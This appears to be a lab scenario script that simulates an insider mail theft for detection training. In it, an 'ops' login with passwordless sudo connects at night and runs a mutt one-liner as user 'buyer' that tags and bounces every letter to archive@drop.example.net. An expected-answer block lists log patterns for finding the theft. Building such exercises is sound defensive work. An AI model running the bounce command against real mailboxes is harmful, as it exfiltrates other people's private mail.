title="A colleague's box bounced out letter by letter with mutt's own keys"
what="Mail in /var/mail. At night somebody with ops' key, from 203.0.113.77 with a terminal, opens buyer's spool by 'sudo -u buyer mutt -f' with a push of keys: tag all, bounce to archive@drop.example.net. Fourteen letters leave through Postfix as if buyer had sent them. By day buyer uses mutt and sends an order. Only executions are recorded."
host=mx1.example.org user=ops store=mbox daemons="cron sshd" audit_rules=audit-exec.rules syslog_format=iso
shift_plan="day:8h night:30m morning:2h"
setup() {
  echo 'ops ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/ops; chmod 440 /etc/sudoers.d/ops
  printf 'set folder=~ record=~/sent move=no confirmcreate=no\n' > /home/buyer/.muttrc; chown buyer: /home/buyer/.muttrc
}
foreign_tt() { python3 "$lab/lib/type.py" -- nsenter -t "$outside_pid" -n -- ssh -tt -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=203.0.113.77 -i /root/key "ops@$host_ip"; }
act() {
  phase day; letters buyer 14; small_talk 4
  ssh_as buyer <<'L'
%line mutt
%sleep 2
%keys \n
%sleep 1
%keys q
%keys q
%sleep 1
echo "we order 12 pieces" | mail -s "Order 1007" partner2@example.net
L
  small_talk 3
  phase night; small_talk 1
  foreign_tt <<'L'
ls -l /var/mail
sudo postqueue -p
%line sudo -u buyer -H mutt -R -f /var/mail/buyer -e 'set quit=yes resolve=no; push "<tag-pattern>~A<enter><tag-prefix><bounce-message>archive@drop.example.net<enter>y<quit>"'
%sleep 6
L
  wait_log_count 'to=<archive@drop.example.net>.*status=sent' 14 30
  phase morning; small_talk 5
}
truth() {
  exec_step open 'mutt -R -f /var/mail/buyer' 'the box is opened by another login'
  exec_step bounce 'sendmail .*archive@drop.example.net' 'letters bounced'
  mail_step out 'to=<archive@drop.example.net>.*status=sent' 'and out'
}
